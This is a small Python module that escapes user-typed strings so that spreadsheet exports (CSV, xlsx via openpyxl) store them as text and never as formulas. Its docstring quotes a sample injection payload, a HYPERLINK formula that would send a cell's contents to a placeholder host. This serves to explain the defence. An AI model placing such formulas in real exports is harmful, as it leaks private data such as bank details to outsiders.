"""What a user typed goes into a spreadsheet as text, never as a formula.

A worker named ``=HYPERLINK("http://x/?"&F2,"张三")`` would otherwise be a live formula in
payroll.xlsx (beside the bank accounts), and Excel or LibreOffice runs a CSV cell starting with
``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) the same way. Such a value
gets a leading apostrophe (OWASP's advice): shown as typed, never evaluated. openpyxl would
also store any string starting with ``=`` as a formula, whatever the cell's number format, so the
xlsx writers pass their values through here too. Numbers and dates are left as they are.
"""
from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def as_text(value):
    """``value`` itself, or for a string a spreadsheet would evaluate, the same string as text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def text_row(values) -> list:
    return [as_text(v) for v in values]
